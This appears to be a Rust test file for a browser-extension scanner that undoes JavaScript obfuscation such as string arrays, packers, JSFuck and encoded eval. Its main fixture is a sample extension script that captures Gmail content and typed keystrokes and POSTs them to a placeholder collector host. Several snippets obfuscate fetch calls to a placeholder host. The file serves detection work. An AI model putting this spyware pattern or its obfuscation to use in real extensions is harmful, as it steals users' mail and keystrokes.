//! Undoing obfuscation, on what real tools make of scripts.

use crxhound::sandbox::{Budget, Worker};
use crxhound::script::decode::{Decoded, TRICKS, apply};
use crxhound::script::evaluate::{Evaluate, NoEvaluator};

#[path = "support/npm.rs"]
pub mod npm;

/// A script with a few strings of every length, in many places.
const SCRIPT: &str = r#"
const COLLECTOR = "https://collector.invalid/api/upload";
function send(body, kind) {
  const request = new XMLHttpRequest();
  request.open("POST", COLLECTOR + "?kind=" + kind, true);
  request.setRequestHeader("Content-Type", "application/json");
  request.send(JSON.stringify({ body: body, when: "now" }));
}
chrome.devtools.network.onRequestFinished.addListener(function (entry) {
  if (entry.request.url.indexOf("mail.google.com") !== -1) {
    entry.getContent(function (content) { send(content, "the whole mail"); });
  }
});
chrome.runtime.onMessage.addListener((message, sender, respond) => {
  if (message.type === "keys") { send(message.text, "typed keys"); respond({ ok: true }); }
  return true;
});
"#;

/// Decodes with the real worker, on the stack that scripts need.
fn decode(text: &str) -> Decoded {
    let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), Budget::default());
    let decoded = decode_with(text, &worker);
    assert_eq!(worker.take_problems("script"), [], "the worker was lost");
    decoded
}

fn decode_with(text: &str, evaluate: &dyn Evaluate) -> Decoded {
    std::thread::scope(|scope| {
        std::thread::Builder::new().stack_size(64 << 20).spawn_scoped(scope, || apply(text, evaluate)).unwrap().join().unwrap()
    })
}

/// All decoded strings, joined: what value propagation will join is joined here by hand.
fn joined(decoded: &Decoded) -> String {
    decoded.strings.values().map(String::as_str).collect()
}

/// The one string that is decoded in a script.
fn only(text: &str) -> (String, &'static str) {
    let decoded = decode(text);
    let strings: Vec<_> = decoded.strings.values().cloned().collect();
    let tricks: Vec<_> = decoded.tricks.keys().copied().collect();
    assert_eq!((strings.len(), tricks.len()), (1, 1), "{decoded:?}");
    (strings[0].clone(), tricks[0])
}

#[test]
fn every_trick_has_a_name_of_its_own() {
    let mut names: Vec<_> = TRICKS.iter().map(|trick| trick.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), TRICKS.len());
    assert!(TRICKS.iter().all(|trick| !trick.doc.is_empty()));
}

#[test]
fn string_arrays_of_javascript_obfuscator_come_out_whole() {
    let forms = ["obfuscated", "encoded", "rc4", "medium", "high", "unrotated", "then_minified", "then_bundled"];
    let jobs: Vec<_> = forms.iter().map(|form| (*form, SCRIPT)).collect();
    let Some(scripts) = npm::transform(&jobs) else { return };
    for (form, script) in forms.iter().zip(&scripts) {
        let decoded = decode(script);
        let solved = decoded.tricks.get("string-array").copied().unwrap_or_default();
        assert!(solved > 10, "{form}: {solved} strings\n{script}");
        assert!(solved * 100 >= decoded.found * 95, "{form}: {solved} of {}", decoded.found);
        // Split strings come out in pieces, and a tool may leave some where they are, so look for both.
        let all = joined(&decoded) + script;
        for piece in ["https:", "valid", "POST", "Conte", "keys"] {
            assert!(all.contains(piece), "{form}: no {piece:?} in {all:?}");
        }
        assert!(!decoded.machinery.is_empty(), "{form}");
    }
}

#[test]
fn two_arrays_in_one_file_are_kept_apart() {
    let first = "function send(where) { fetch('https://one.invalid/' + where, { method: 'PATCH' }); } send('first place');";
    let second = "function read(what) { return document.querySelector('#second-' + what).textContent; } read('thing here');";
    let Some(scripts) = npm::transform(&[("rc4", first), ("encoded", second)]) else { return };
    // As a bundler puts modules: each in a function of its own, with names that shadow each other.
    let bundle = format!("(()=>{{var m={{1:(e)=>{{{}}},2:(e)=>{{{}}}}};m[1]({{}});m[2]({{}})}})();", scripts[0], scripts[1]);
    let all = joined(&decode(&bundle));
    for piece in ["https://one.invalid/", "PATCH", "first place", "#seco", "thing"] {
        assert!(all.contains(piece), "no {piece:?} in {all:?}");
    }
}

#[test]
fn old_string_arrays_with_a_counted_rotation() {
    let script = "var _0x1f=['b25l','dHdv','dGhyZWU=','Zm91cg=='];(function(a,n){var f=function(m){while(--m){a['push'](a['shift']());}};f(++n);}(_0x1f,0x2));\
        var _0xd=function(i,k){i=i-0x0;var s=_0x1f[i];return atob(s);};console.log(_0xd('0x0'),_0xd('0x1'));";
    let decoded = decode(script);
    assert_eq!(decoded.strings.values().collect::<Vec<_>>(), ["three", "four"]);
}

#[test]
fn packed_scripts_are_revealed() {
    let packed = r#"eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('2 0(1){3.4(\'5\',1)}',6,6,'send|body|function|navigator|sendBeacon|/x'.split('|'),0,{}))"#;
    let decoded = decode(packed);
    assert_eq!(decoded.code.len(), 1, "{decoded:?}");
    assert_eq!(decoded.code[0].text, "function send(body){navigator.sendBeacon('/x',body)}");
    assert!(decoded.tricks.contains_key("packer"), "{:?}", decoded.tricks);
}

#[test]
fn code_in_a_literal_is_a_script_too() {
    let decoded =
        decode_with("eval('fetch(\"https://a.invalid\")'); setTimeout('go(1)', 5); Function('return this')()", &NoEvaluator);
    let code: Vec<_> = decoded.code.iter().map(|code| code.text.as_str()).collect();
    assert_eq!(code, ["fetch(\"https://a.invalid\")", "go(1)"]);
}

#[test]
fn code_that_is_decoded_before_it_runs() {
    for script in [
        "eval(atob('ZmV0Y2goJ2h0dHBzOi8vYS5pbnZhbGlkJyk='))",
        "const k = 'ZmV0Y2goJ2h0dHBzOi8vYS5pbnZhbGlkJyk='; new Function(atob(k))()",
        "(0, eval)(unescape('%66%65%74%63%68%28%27%68%74%74%70%73%3a%2f%2f%61%2e%69%6e%76%61%6c%69%64%27%29'))",
        "[].filter.constructor(['fetch(', \"'https:\", \"//a.invalid')\"].join(''))()",
        "function d(s) { return s.split('').reverse().join('') } window['eval'](d(\")'dilavni.a//:sptth'(hctef\"))",
    ] {
        let decoded = decode(script);
        let code: Vec<_> = decoded.code.iter().map(|code| code.text.as_str()).collect();
        assert_eq!(code, ["fetch('https://a.invalid')"], "{script}");
    }
}

#[test]
fn scripts_without_letters_are_run_for_what_they_say() {
    let say = "alert(1234567890)";
    let octal: String = say.bytes().map(|byte| format!("\\{byte:o}")).collect();
    // JSFuck's alphabet, spelled out for one word, and JJencode's way to `Function`.
    let jsfuck = format!("[]{}[\"{}\"][\"{}\"](\"{octal}\")()", "+[]".repeat(200), escape("flat"), escape("constructor"));
    let decoded = decode(&jsfuck.replacen("[]+[]", "[]", 1).replace("+[][", "+[]||[]["));
    assert!(decoded.code.iter().any(|code| code.text == say), "{decoded:?}");
}

fn escape(word: &str) -> String {
    word.bytes().map(|byte| format!("\\{byte:o}")).collect()
}

#[test]
fn own_helpers_are_evaluated() {
    let helper =
        "function d(s,k){let r='';for(let i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16)^k);return r}";
    assert_eq!(only(&format!("{helper} fetch(d('3f232327246d7878', 0x57))")), ("https://".to_owned(), "helper"));
    let nested =
        format!("const x = (() => {{ {helper} return {{ go() {{ fetch(d('3f232327246d7878', 0x57)) }} }} }})(); x.go()");
    assert_eq!(only(&nested).0, "https://");
    let array = "const d = (a) => a.map((c) => String.fromCharCode(c - 3)).join(''); fetch(d([107,119,119,115,118]))";
    assert_eq!(only(array).0, "https");
}

#[test]
fn expressions_are_evaluated_where_they_stand() {
    for (script, text, trick) in [
        ("fetch([111,115,115,119,116].map(c => String.fromCharCode(c ^ 7)).join(''))", "https".to_owned(), "char-codes"),
        ("fetch('6874747073'.replace(/../g, h => String.fromCharCode(parseInt(h, 16))))", "https".to_owned(), "char-codes"),
        ("x(new TextDecoder().decode(Uint8Array.from(atob('aHR0cHM='), c => c.charCodeAt(0))))", "https".to_owned(), "base64"),
        ("x(decodeURIComponent('68 74 74 70'.split(' ').map(h => '%' + h).join('')))", "http".to_owned(), "escapes"),
    ] {
        let (found, by) = only(script);
        assert_eq!(found, text, "{script}");
        assert_eq!(by, trick, "{script}");
    }
}

#[test]
fn honest_code_is_left_alone() {
    for script in [
        "const days = ['Mon', 'Tue', 'Wed']; function day(i) { return days[i] } show(day(1))",
        "items.push(items.shift()); const words = ['a', 'b', 'c', 'd']; words.forEach(show)",
        "setTimeout(tick, 500); setTimeout(() => tick('a'), 5); setInterval(this.poll.bind(this), 9)",
        "const id = 'abc'; fetch(`https://a.example/${id}`); String.fromCharCode(65)",
        "function hash(s) { let h = 0; for (const c of s) h = h * 31 + c.charCodeAt(0); return h } hash('abc')",
        "var g = Function('return this')()",
    ] {
        assert_eq!(decode_with(script, &NoEvaluator).found, 0, "{script}");
        assert_eq!(decode_with(script, &NoEvaluator).code, [], "{script}");
    }
}

#[test]
fn what_depends_on_the_world_is_not_evaluated() {
    for script in [
        "eval(document.title)",
        "chrome.storage.local.get('x', (v) => eval(v.x))",
        "function d(s) { return atob(s + location.hash) } fetch(d('aGVsbG8gd29ybGQ='))",
        "let key = 5; key = Number(prompt()); function d(s) { return String.fromCharCode(s.charCodeAt(0) ^ key) } d('aGVsbG8gd29ybGQ1')",
    ] {
        assert_eq!(decode_with(script, &NoEvaluator).found, 0, "{script}");
    }
}

#[test]
fn nobody_evaluates_and_nothing_breaks() {
    let jobs = [("high", SCRIPT)];
    let Some(scripts) = npm::transform(&jobs) else { return };
    let decoded = decode_with(&scripts[0], &NoEvaluator);
    assert!(decoded.found > 100 && decoded.strings.is_empty());
}

#[test]
fn hostile_scripts_cost_a_bounded_time() {
    let many = "function d(s){return String.fromCharCode(parseInt(s,16))}".to_owned() + &"d('6874747073');".repeat(200_000);
    let cycle = "function a(s){return b(atob(s))} function b(s){return a(s)} var c=d, d=c; a('aGVsbG8gd29ybGQ1'); c('aGVsbG8gd29ybGQ1')";
    let bomb = "function d(s){let r=atob(s);for(;;)r+=r;return r} f(d('aGVsbG8gd29ybGQ1'))";
    let arrays = "var a=['x','y','z'];".repeat(50_000);
    let deep = format!("eval({}atob('eA=='){})", "atob(".repeat(500), ")".repeat(500));
    for script in [many.as_str(), cycle, bomb, arrays.as_str(), deep.as_str()] {
        let start = std::time::Instant::now();
        let budget = Budget { steps: 5_000_000, time: std::time::Duration::from_secs(5), ..Budget::default() };
        let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), budget);
        decode_with(script, &worker);
        assert!(start.elapsed().as_secs() < 30, "{} took {:?}", &script[..40], start.elapsed());
    }
}

#[test]
fn hidden_scripts_look_hidden_and_minified_ones_do_not() {
    use crxhound::script::measure::look;
    let forms = ["minified", "bundled", "obfuscated", "encoded", "rc4", "medium", "high", "then_minified", "then_bundled"];
    let jobs: Vec<_> = forms.iter().map(|form| (*form, SCRIPT)).collect();
    let Some(scripts) = npm::transform(&jobs) else { return };
    for (form, script) in forms.iter().zip(&scripts) {
        let looks = look(script);
        let honest = ["minified", "bundled"].contains(form);
        assert_eq!(looks.techniques.is_empty(), honest, "{form}: {looks:?}\n{script}");
        assert_eq!(looks.techniques.contains(&"string-array"), !honest, "{form}: {looks:?}\n{script}");
    }
}
